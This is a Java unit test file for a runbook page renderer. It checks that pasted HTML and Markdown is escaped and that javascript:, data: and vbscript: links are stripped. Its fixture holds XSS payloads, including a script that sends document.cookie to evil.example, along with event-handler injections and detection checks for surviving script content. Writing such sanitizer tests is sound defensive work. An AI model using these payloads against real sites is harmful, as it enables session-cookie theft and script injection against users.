package dev.tta.alertrouter.runbook;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RunbookPagesTest {
  /** What someone might paste into a runbook, by mistake or not. */
  static final String HOSTILE_BODY = """
      # Steps <script>alert('heading')</script>

      <script>fetch('https://evil.example/?c=' + document.cookie)</script>

      <img src=x onerror="alert(1)">

      [click me](javascript:alert(document.domain)) and [data](data:text/html;base64,PHNjcmlwdD4=)
      and [vb](vbscript:msgbox) and [the wiki](https://wiki.tta.dev/runbooks?a=1&b="2")

      <a href="javascript:alert(2)">raw link</a>

      | query | why |
      |---|---|
      | `up == 0` | <b onmouseover="alert(3)">down</b> |
      """;

  @TempDir Path dir;

  static Runbook hostileRunbook(Path dir) {
    RunbookFiles.writeRaw(dir, "hostile", "---\n"
        + "title: '<script>alert(\"title\")</script> & co'\n"
        + "owner: '<img src=x onerror=alert(4)>'\n"
        + "alerts:\n"
        + "  - '{alertname=\"X\", service=~\"<script>\"}'\n"
        + "---\n" + HOSTILE_BODY);
    return RunbookFiles.load(dir).byName("hostile").orElseThrow();
  }

  /** Asserts nothing in {@code html} can run script, whatever the runbook held. */
  static void assertNoActiveContent(String html) {
    String lower = html.toLowerCase(Locale.ROOT);
    assertFalse(lower.contains("<script"), "a script element survived");
    assertFalse(lower.contains("<img"), "raw HTML survived");
    assertFalse(lower.contains("<b "), "raw HTML survived");
    assertFalse(Pattern.compile("<[a-z][^>]*\\son[a-z]+\\s*=").matcher(lower).find(),
        "an event handler attribute survived in a tag");
    assertFalse(lower.contains("href=\"javascript:"), "a javascript: link survived");
    assertFalse(lower.contains("href=\"data:"), "a data: link survived");
    assertFalse(lower.contains("href=\"vbscript:"), "a vbscript: link survived");
  }

  @Test
  void hostileMarkdownIsEscapedAndItsScriptLinksDropped() {
    Runbook runbook = hostileRunbook(dir);
    String html = new RunbookPages().page(runbook, "http://alert-router:9095/runbooks/hostile");
    assertNoActiveContent(html);
    assertTrue(html.contains("&lt;script&gt;fetch("), "the pasted script shows as text");
    assertTrue(html.contains("<title>&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt; &amp; co</title>"), html);
    assertTrue(html.contains("Owner: &lt;img src=x onerror=alert(4)&gt;"), html);
    assertTrue(html.contains("<a rel=\"noopener noreferrer\" href=\"https://wiki.tta.dev/runbooks?a=1&amp;b=&quot;2&quot;\">the wiki</a>"), html);
    assertTrue(html.contains("<a rel=\"noopener noreferrer\" href=\"\">click me</a>"), "the javascript: link is emptied");
    assertTrue(html.contains("<td><code>up == 0</code></td>"), "tables render");
  }

  @Test
  void theIndexEscapesTitlesOwnersAndMatchers() {
    Runbook runbook = hostileRunbook(dir);
    String html = new RunbookPages().index(List.of(runbook));
    assertNoActiveContent(html);
    assertTrue(html.contains("<a href=\"hostile\">&lt;script&gt;"), html);
    assertTrue(html.contains("<code>{alertname=&quot;X&quot;, service=~&quot;&lt;script&gt;&quot;}</code>"), html);
  }
}
